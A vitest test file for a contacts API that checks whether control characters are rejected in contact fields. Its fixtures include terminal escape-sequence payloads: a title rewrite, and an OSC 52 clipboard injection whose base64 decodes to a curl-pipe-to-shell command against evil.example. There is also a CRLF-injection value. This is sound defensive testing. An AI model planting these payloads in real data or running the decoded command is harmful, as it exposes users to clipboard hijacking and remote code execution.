import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { protocolError, startTestServer, type TestServer } from './helpers';

let t: TestServer;
beforeAll(async () => {
  t = await startTestServer();
});
afterAll(() => t.close());

// What an attacker stores for the victim's terminal: retitle it (OSC 2) and fill its clipboard (OSC 52).
const OSC_TITLE = '\u001b]2;pwned\u0007';
const OSC_CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\u0007';

describe('control characters in contact fields', () => {
  it('refuses C0, DEL and C1 in every text field of add_contact, naming the field, and stores nothing', async () => {
    const { client } = await t.user();
    const cases: [Record<string, unknown>, string][] = [
      [{ nom: `Dupont${OSC_TITLE}` }, 'nom'],
      [{ nom: 'Dupont', prenom: 'Ann\u009be' }, 'prenom'],
      [{ nom: 'Dupont', entreprise: 'A\u007fB' }, 'entreprise'],
      [{ nom: 'Dupont', fonction: 'line\nbreak' }, 'fonction'],
      [{ nom: 'Dupont', site_web: 'https://x.example\r\nTEL:0899' }, 'site_web'],
      [{ nom: 'Dupont', notes: `note${OSC_CLIPBOARD}` }, 'notes'],
      [{ nom: 'Dupont', adresse: { ville: 'Ly\u0000on' } }, 'adresse.ville'],
    ];
    for (const [fields, field] of cases) {
      const err = await protocolError(client.request('add_contact', fields as never));
      expect(err.code, field).toBe('invalid_params');
      expect(err.body.field).toBe(field);
      expect(err.body.issues?.[0]?.reason).toBe('control_characters');
    }
    expect((await client.request('list_contacts', {})).total).toBe(0);
  });

  it('keeps tabs everywhere and line breaks in notes and street, stored as LF', async () => {
    const { client } = await t.user();
    const { contact } = await client.request('add_contact', {
      nom: 'Dupont\tFils',
      notes: 'ligne 1\r\nligne 2\rligne 3\nfin',
      adresse: { rue: 'Bâtiment B\r\n12 rue des Lilas' },
    });
    expect(contact.nom).toBe('Dupont\tFils');
    expect(contact.notes).toBe('ligne 1\nligne 2\nligne 3\nfin');
    expect(contact.adresse?.rue).toBe('Bâtiment B\n12 rue des Lilas');
  });

  it('refuses them in update_contact too, leaving the contact as it was', async () => {
    const { client } = await t.user();
    const { contact } = await client.request('add_contact', { nom: 'Martin' });
    const err = await protocolError(
      client.request('update_contact', { contact_id: contact.id, version: contact.version, notes: OSC_CLIPBOARD }),
    );
    expect(err.body.field).toBe('notes');
    expect((await client.request('get_contact', { contact_id: contact.id })).contact).toEqual(contact);
  });
});
